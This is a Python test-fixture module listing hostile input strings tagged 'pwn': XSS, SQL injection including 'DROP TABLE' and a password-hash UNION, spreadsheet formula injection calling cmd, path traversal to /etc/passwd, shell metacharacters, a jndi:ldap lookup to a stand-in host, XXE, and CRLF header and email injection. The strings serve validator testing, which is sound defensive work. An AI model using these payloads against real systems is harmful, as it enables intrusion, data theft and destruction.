"""Hostile texts, by the trick they play. All hold ``pwn``, by which they are known again wherever they turn up."""

from __future__ import annotations

MARK = "pwn"
#: What a name, an address or a note may be: kept and shown as it stands, and never anything but text.
PLAIN = {
    "script": "<script>window.__pwned=1</script>",
    "image": '<img src=x onerror="window.__pwned=1">',
    "svg": "<svg/onload=window.__pwned=1>",
    "frame": "<iframe srcdoc='<b id=pwn>'></iframe>",
    "out of an attribute": '"><b id=pwn onclick=window.__pwned=1>',
    "out of a script": "</script></title></textarea><b id=pwn>",
    "out of a call": '"});window.__pwned=1;//',
    "address that runs": "javascript:window.__pwned=1//",
    "markdown link": "[pwn](javascript:window.__pwned=1)",
    "markdown image": "![pwn](http://pwn.invalid/x.png)",
    "markdown table": "**pwn** `pwn` # pwn | pwn | ---",
    "entities": "&lt;b&gt;pwn&amp;&#x3C;&copy;",
    "template of Jinja": "{{7*7}}{% raw %}pwn",
    "template of JavaScript": "${7*7}`pwn`#{7*7}<%= 7*7 %>",
    "format string": "%s%s%n%x %(pwn)s {0.__class__} {pwn}",
    "lookup": "${jndi:ldap://pwn.invalid/a}",
    "prototype": "__proto__.pwned constructor toString",
    "quote of SQL": "Pwn'; DROP TABLE patients; --",
    "always true": "pwn' OR '1'='1' /*",
    "union": 'pwn" UNION SELECT password_hash FROM accounts#',
    "wildcards of SQL": "100%_pwn/%\\_",
    "formula": "=cmd|' /C pwn'!A0",
    "formula plus": "+1+pwn",
    "formula minus": "-2+3+pwn",
    "formula at": "@SUM(1+9)*cmd|pwn",
    "formula of full width": "＝1+1pwn",
    "formula in quotes": "'=1+pwn",
    "cells": 'pwn","=1+1";\\"pwn',
    "path": "../../../../etc/passwd pwn",
    "path of Windows": "..\\..\\pwn.ini C:\\pwn",
    "shell": "$(pwn) `pwn`; pwn | pwn && pwn > /tmp/pwn",
    "JSON": '{"$ne": null, "pwn": true}',
    "XML": '<!DOCTYPE pwn [<!ENTITY x SYSTEM "file:///pwn">]>',
    "words for nothing": "null undefined NaN true pwn",
    "percent encoded": "%3Cscript%3Epwn%00%0d%0a",
    "spelled escapes": "\\u003cpwn\\x3e\\0\\r\\n",
    "accents": "Z\u0316\u0300\u0301\u0302pwn",
    "look-alikes": "Аdmin \u212bpwn".replace("\u212b", "\u00c5"),
    "family": "👨\u200d👩\u200d👧\u200d👦 pwn",
    "long word": "pwnÆ" * 12,
}
#: What nobody's name is: each holds a control character or half of a pair.
REFUSED = {
    "NUL": "pwn\0end",
    "NUL first": "\0pwn",
    "line": 'pwn\n{"event": "forged", "level": "info"}',
    "header": "pwn\r\nSet-Cookie: pwned=1\r\n\r\n<b id=pwn>",
    "header of an email": "pwn@example.org\r\nBcc: pwn@example.com",
    "formula behind a tab": "\t=1+pwn",
    "formula behind a return": "\r=1+pwn",
    "colours": "\x1b[31mpwn\x1b[0m\x07",
    "title of a terminal": "\x1b]0;pwn\x07",
    "rubbed out": "pwn\x08\x08\x7f",
    "C1": "\x9b31mpwn\x85",
    "high surrogate": "pwn\ud800",
    "low surrogate": "\udfffpwn",
}
EVERY = {**PLAIN, **REFUSED}
#: What is typed, and what it is once spaces and accents are as everywhere else, and what nobody sees is gone.
NORMALISED = {
    "  pwn\u00a0 \u3000 end ": "pwn end",
    "pwn\u2028end\u2029": "pwn end",
    "pwne\u0301": "pwn\u00e9",
    "\u212bpwn": "\u00c5pwn",
    "Zero\u200bpwn\u200c\u200d\ufeff\u2060end": "Zeropwnend",
    "Left\u200epwn\u200f\u061c": "Leftpwn",
    "\u202epwn\u202c": "pwn",
    "pwn\u202a\u202b\u202d": "pwn",
    "\u2066pwn\u2067\u2068\u2069": "pwn",
}
#: Local parts of addresses that are valid all the same (RFC 5322, 3.2.3).
EMAILS = [
    f"{local}@example.org"
    for local in (
        "=cmd|pwn!a0",
        "+1+pwn",
        "-1+pwn",
        "pwn'or'1'='1",
        "{{7*7}}pwn",
        "${7*7}pwn`id`",
        "%s%n_pwn",
        "__proto__pwn",
        "#pwn&lt/*?",
    )
]
NO_EMAILS = [
    "<script>window.__pwned=1</script>@example.org",
    '"<b id=pwn>"@example.org',
    "pwn@<b>example.org",
    "pwn@[127.0.0.1]",
    "pwn@example.org,pwn@example.com",
    "pwn@example.org%0d%0aBcc:pwn@example.com",
    "рwn@example.org",
    "pwn@example.org?bcc=pwn@example.com",
    "pwn(comment)@example.org",
]
